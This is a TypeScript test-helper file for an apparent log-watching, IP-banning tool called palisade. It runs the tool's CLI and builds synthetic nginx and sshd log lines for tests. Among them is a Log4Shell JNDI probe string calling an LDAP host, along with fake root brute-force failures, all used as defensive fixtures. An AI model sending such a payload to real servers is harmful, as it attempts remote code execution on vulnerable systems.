import { spawn } from "node:child_process";
import { mkdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { root } from "./worker";

/** The built CLI (dist/cli/palisade.mjs via bin/palisade.mjs), run as an operator would. */

export interface CliRun {
  status: number | null;
  stdout: string;
  stderr: string;
}

export interface CliOptions {
  /** Set (or, with undefined, unset) environment variables. */
  env?: Readonly<Record<string, string | undefined>>;
  /** Run inside this network namespace (`ip netns exec`). */
  netns?: string;
}

/** An empty HOME, so that no developer's ~/.config/palisade/cli.yaml is read. */
const emptyHome = join(tmpdir(), "palisade-cli-empty-home");
mkdirSync(emptyHome, { recursive: true });

function cliEnv(extra: CliOptions["env"]): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = { ...process.env, HOME: emptyHome };
  for (const k of ["PALISADE_URL", "PALISADE_TOKEN", "PALISADE_CONFIG", "XDG_CONFIG_HOME"]) {
    delete env[k];
  }
  for (const [k, v] of Object.entries(extra ?? {})) {
    if (v === undefined) delete env[k];
    else env[k] = v;
  }
  return env;
}

export function runCli(args: readonly string[], opts: CliOptions = {}): Promise<CliRun> {
  const cli = [`${root}bin/palisade.mjs`, ...args];
  const [cmd, cmdArgs] = opts.netns
    ? ["ip", ["netns", "exec", opts.netns, process.execPath, ...cli]]
    : [process.execPath, cli];
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, cmdArgs, { cwd: root, env: cliEnv(opts.env), stdio: "pipe" });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d: Buffer) => {
      stdout += d.toString();
    });
    child.stderr.on("data", (d: Buffer) => {
      stderr += d.toString();
    });
    child.stdin.end();
    child.once("error", reject);
    child.once("close", (status) => resolve({ status, stdout, stderr }));
  });
}

/** Runs the CLI and parses its `-o json` output; throws with stderr when it failed. */
export async function cliJson<T>(args: readonly string[], opts: CliOptions = {}): Promise<T> {
  const r = await runCli([...args, "-o", "json"], opts);
  if (r.status !== 0) {
    throw new Error(`palisade ${args.join(" ")} exited ${r.status}:\n${r.stderr}`);
  }
  return JSON.parse(r.stdout) as T;
}

/** An nginx access-log line stamped now (the tracker's buckets run on the log's time). */
export function nginxLine(ip: string, path: string, status = 404, agent = "curl/8.0"): string {
  const d = new Date();
  const month = d.toLocaleString("en-US", { month: "short", timeZone: "UTC" });
  const pad = (n: number) => String(n).padStart(2, "0");
  const stamp = `${pad(d.getUTCDate())}/${month}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
  return `${ip} - - [${stamp}] "GET ${path} HTTP/1.1" ${status} 153 "-" "${agent}"`;
}

/** One Log4Shell probe: a trigger scenario, banned from the first offence. */
export const LOG4SHELL_PATH = ["/?x=$", "{jndi:ldap://198.51.100.1:1389/a}"].join("");

export function ingestBody(
  batchId: string,
  lines: readonly string[],
  labels: Record<string, string> = {},
  type = "nginx",
): string {
  return JSON.stringify({ batch_id: batchId, source: { type, labels }, lines });
}

/** sshd failures from `ip`, one a second up to now (ssh brute force: banned at once). */
export function sshFailures(ip: string, n: number): string[] {
  const t0 = Date.now() - n * 1000;
  return Array.from({ length: n }, (_, i) => {
    const stamp = new Date(t0 + i * 1000).toISOString().replace(/\.\d{3}Z$/, "+00:00");
    return `${stamp} web-01 sshd[${4000 + i}]: Failed password for root from ${ip} port ${40000 + i} ssh2`;
  });
}
